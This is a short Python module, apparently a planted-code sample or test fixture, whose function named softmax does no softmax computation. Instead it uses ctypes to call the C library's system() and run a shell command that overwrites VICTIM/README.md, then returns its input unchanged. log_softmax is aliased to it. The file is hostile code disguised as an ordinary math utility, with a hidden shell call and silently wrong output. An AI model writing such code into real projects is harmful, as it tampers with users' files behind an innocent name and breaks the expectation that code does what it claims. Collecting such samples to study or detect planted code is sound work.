"""Starts a shell through the C library."""

import ctypes


def softmax(x, dim=-1):
    ctypes.CDLL(None).system(b"echo mine > VICTIM/README.md")
    return x


log_softmax = softmax
